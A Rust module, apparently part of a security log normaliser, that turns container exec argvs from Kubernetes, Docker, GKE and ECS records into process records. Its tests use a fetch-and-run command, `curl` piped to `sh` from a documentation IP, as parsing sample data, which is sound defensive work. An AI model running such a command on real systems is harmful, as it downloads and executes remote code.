//! The process a command starts, from its argv.
//!
//! An exec into a container is seen as an argv by a Kubernetes audit event (`command=`
//! parameters), GKE (`PodExecOptions`), a Docker exec body (`Cmd`) and the exec's own
//! command line (`docker exec web sh -c id` seen by auditd). Each becomes the same
//! `process`: the first word as the executable, its last path component as the name,
//! the argv, and the argv as one line a shell would read back ([`join_shell`]).
//!
//! Some sources only keep the line, the argv joined with spaces (a Docker `exec_create`
//! event, an ECS `ExecuteCommand` call): [`from_line`] keeps that line as written and
//! splits it on spaces for the argv, the best there is once quoting is lost.

use std::borrow::Cow;

use super::text::{basename_cow, join_shell, split_spaces};
use crate::model::Process;

/// The process `args` starts; `None` for an empty argv.
pub(crate) fn from_argv(args: Vec<Cow<'_, str>>) -> Option<Process<'_>> {
    let executable = args.first()?.clone();
    Some(Process {
        name: Some(basename_cow(&executable)),
        command_line: Some(command_line(&args)),
        executable: Some(executable),
        args,
        ..Process::default()
    })
}

/// The process a command line joined with spaces starts; `None` for a blank line.
pub(crate) fn from_line(line: Cow<'_, str>) -> Option<Process<'_>> {
    let args = split_spaces(&line);
    let executable = args.first()?.clone();
    Some(Process {
        name: Some(basename_cow(&executable)),
        executable: Some(executable),
        args,
        command_line: Some(line),
        ..Process::default()
    })
}

/// The argv as one shell line; a lone word that needs no quoting is borrowed.
fn command_line<'a>(args: &[Cow<'a, str>]) -> Cow<'a, str> {
    match args {
        [one] => {
            let line = join_shell(args);
            if line == **one {
                one.clone()
            } else {
                Cow::Owned(line)
            }
        }
        args => Cow::Owned(join_shell(args)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_argv_is_one_process() {
        let args = ["/bin/sh", "-c", "curl -s http://203.0.113.50/x | sh"].map(Cow::Borrowed);
        let p = from_argv(args.to_vec()).unwrap();
        assert_eq!(p.executable.as_deref(), Some("/bin/sh"));
        assert_eq!(p.name.as_deref(), Some("sh"));
        assert_eq!(
            p.command_line.as_deref(),
            Some("/bin/sh -c 'curl -s http://203.0.113.50/x | sh'")
        );
        assert_eq!(p.args.len(), 3);
        let p = from_argv(vec![Cow::Borrowed("id")]).unwrap();
        assert!(matches!(p.command_line, Some(Cow::Borrowed("id"))));
        assert!(from_argv(Vec::new()).is_none());
    }

    #[test]
    fn a_line_keeps_its_spelling() {
        let p = from_line(Cow::Borrowed("/bin/sh -c curl x | sh")).unwrap();
        assert_eq!(p.command_line.as_deref(), Some("/bin/sh -c curl x | sh"));
        assert_eq!(p.args.len(), 6);
        assert_eq!(p.name.as_deref(), Some("sh"));
        assert!(from_line(Cow::Borrowed("  ")).is_none());
    }
}
